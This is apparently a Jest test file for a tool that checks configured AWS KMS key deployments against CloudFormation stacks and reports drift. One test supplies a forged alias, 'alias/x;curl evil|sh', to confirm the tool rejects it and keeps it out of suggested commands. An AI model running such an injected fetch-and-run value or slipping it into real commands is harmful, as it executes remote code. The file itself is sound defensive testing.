import type { AwsDeployment } from '../../../lib/aws/fields';
import { deployedChanges } from '../../../lib/operations/deployed-changes';
import { loadText } from '../../support/deployments';
import {
  type LoopbackAws,
  awsEnvironment,
  identity,
  loopbackAws,
  refused,
  withAwsEnvironment,
  xml,
} from '../../support/loopback-aws';
import { testSession } from '../../support/session';
import { deploymentText } from '../configuration/immuta';

type Texts = Readonly<Record<string, string>>;

let aws: LoopbackAws;
let restore: () => void;
let stacks: string[];
let expiredIn: string;

beforeEach(async () => {
  stacks = [];
  expiredIn = '';
  aws = await loopbackAws(({ action, region }) => {
    if (action === 'GetCallerIdentity') return identity('111122223333');
    if (region === expiredIn) return refused('ExpiredToken', 'expired');
    return xml('DescribeStacks', `<Stacks>${stacks.join('')}</Stacks>`);
  });
  restore = withAwsEnvironment(awsEnvironment(aws.url));
});

afterEach(async () => {
  restore();
  await aws.stop();
});

const members = (texts: Texts, key: string, value: string): string =>
  Object.entries(texts)
    .map(([k, v]) => `<member><${key}>${k}</${key}><${value}>${v}</${value}></member>`)
    .join('');
const stack = (name: string, tags: Texts, outputs: Texts = {}, status = 'CREATE_COMPLETE', title = 'Immuta'): string =>
  `<member><StackName>${name}</StackName><StackStatus>${status}</StackStatus><Description>Customer managed key of ${title} (deployment ${tags['cmk:id']})</Description><Tags>${members(tags, 'Key', 'Value')}</Tags><Outputs>${members(outputs, 'OutputKey', 'OutputValue')}</Outputs></member>`;

const DEPLOYED = {
  AliasName: 'alias/cmk-prod',
  KmsKeyArn: 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
};

async function changes(...texts: string[]) {
  const loaded = loadText(`deployments:\n${texts.join('')}`).deployments as readonly AwsDeployment[];
  const { fieldProblems, problems, unread } = await deployedChanges(testSession(), loaded);
  return {
    fieldProblems: fieldProblems.map(
      ({ id, fieldProblem }) =>
        `${fieldProblem.severity} ${[id, ...fieldProblem.path].join('.')}: ${fieldProblem.message}`,
    ),
    problems: problems.map((p) => `${p.severity}: ${p.message}`),
    ...(unread.length === 0 ? {} : { unread }),
  };
}

const NOTHING = { fieldProblems: [], problems: [] };

test('what is deployed as it is configured needs no word', async () => {
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED), stack('theirs', {})];
  expect(await changes(deploymentText('prod'))).toEqual(NOTHING);
});

test('what is not deployed yet needs no word either', async () => {
  expect(await changes(deploymentText('prod'))).toEqual(NOTHING);
});

test('another alias is warned of: the old one stays', async () => {
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED)];
  expect(await changes(deploymentText('prod', { alias: 'new' }))).toEqual({
    fieldProblems: [
      'warning prod.alias: alias/cmk-prod is deployed; the next deploy makes alias/new beside it, for the same key. When nothing uses the old one any more: aws kms delete-alias --region eu-west-1 --alias-name alias/cmk-prod',
    ],
    problems: [],
  });
});

test('an alias or an ARN that is none of this deployment is told, and stands in no command', async () => {
  const forged = { AliasName: 'alias/x;curl evil|sh', KmsKeyArn: 'arn:aws:kms:eu-west-1:666666666666:key/mrk-1' };
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, forged)];
  expect((await changes(deploymentText('prod'))).fieldProblems).toEqual([
    'error prod: output KmsKeyArn is "arn:aws:kms:eu-west-1:666666666666:key/mrk-1" in CloudFormation stack cmk-prod; it must be arn:aws:kms:eu-west-1:111122223333:key/<key id>, the ARN of a key and not of an alias',
    'error prod: output AliasName is "alias/x;curl evil|sh" in CloudFormation stack cmk-prod; it must be the name of an alias of your own, such as alias/acme: letters, digits or / _ -',
  ]);
});

const identityCenter = (multiRegion: string) =>
  deploymentText('prod', { platform: 'iam-identity-center', runsOn: undefined, multiRegion });

test.each([
  ['true', '1234abcd-12ab-34cd-56ef-1234567890ab', 'a single-Region key', 'false'],
  ['false', 'mrk-1234abcd12ab34cd56ef1234567890ab', 'a multi-Region key', 'true'],
])('multiRegion: %s is refused where key %s is deployed', async (wanted, key, kind, back) => {
  const arn = `arn:aws:kms:eu-west-1:111122223333:key/${key}`;
  const title = 'IAM Identity Center';
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, { ...DEPLOYED, KmsKeyArn: arn }, undefined, title)];
  expect((await changes(identityCenter(wanted))).fieldProblems).toEqual([
    `error prod.multiRegion: ${arn} is ${kind} and can't be converted; put multiRegion: ${back} back, or add a deployment with another id for the new key and switch the platform over to it`,
  ]);
  expect(await changes(identityCenter(back))).toEqual(NOTHING);
});

test('another id for a deployed key is refused', async () => {
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED)];
  expect(await changes(deploymentText('production'))).toEqual({
    fieldProblems: [
      'error production: is not deployed, but stack cmk-prod is (id prod), which the configuration no longer names. If production is the same deployment under another name, put the id prod back: another id makes another key. If it is a new one, keep the old deployment in the configuration as long as its key is in use',
    ],
    problems: [],
  });
});

test('a stack of ours that no deployment stands for is warned of', async () => {
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED), stack('cmk-old', { 'cmk:id': 'old' })];
  expect(await changes(deploymentText('prod'))).toEqual({
    fieldProblems: [],
    problems: [
      'warning: stack cmk-old (id old) is deployed in account 111122223333, eu-west-1, but the configuration no longer names it; put it back, or retire its key on purpose',
    ],
  });
});

test('stacks of another fleet, and those that only wait for an import, are passed over', async () => {
  stacks = [
    stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED),
    stack('cmk-acme-old', { 'cmk:id': 'old', 'cmk:name': 'acme' }),
    stack('cmk-new', { 'cmk:id': 'new' }, {}, 'REVIEW_IN_PROGRESS'),
  ];
  expect(await changes(deploymentText('prod'))).toEqual(NOTHING);
});

test('another platform under the id of a deployed key is refused', async () => {
  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, DEPLOYED, undefined, 'Adobe Experience Platform')];
  expect(await changes(deploymentText('prod', { alias: 'new' }))).toEqual({
    fieldProblems: [
      'error prod.platform: stack cmk-prod was deployed for Adobe Experience Platform, and the configuration says Immuta: a key serves one platform. Put the platform back, or give the new one a deployment with another id',
    ],
    problems: [],
  });
});

test('a stack of another platform is not suspected to be the deployment under another id', async () => {
  stacks = [stack('cmk-old', { 'cmk:id': 'old' }, DEPLOYED, undefined, 'Adobe Experience Platform')];
  expect(await changes(deploymentText('new'))).toEqual({
    fieldProblems: [],
    problems: [
      'warning: stack cmk-old (id old) is deployed in account 111122223333, eu-west-1, but the configuration no longer names it; put it back, or retire its key on purpose',
    ],
  });
});

test('a place that can not be read does not hide what is found elsewhere', async () => {
  stacks = [stack('cmk-old', { 'cmk:id': 'old' }, DEPLOYED)];
  expiredIn = 'us-east-1';
  expect(await changes(deploymentText('new'), deploymentText('two', { region: 'us-east-1' }))).toEqual({
    fieldProblems: [expect.stringMatching(/^error new: is not deployed, but stack cmk-old is/)],
    problems: [],
    unread: [
      'Failed while reading the stacks of account 111122223333, us-east-1: the AWS credentials have expired; sign in again.',
    ],
  });
});
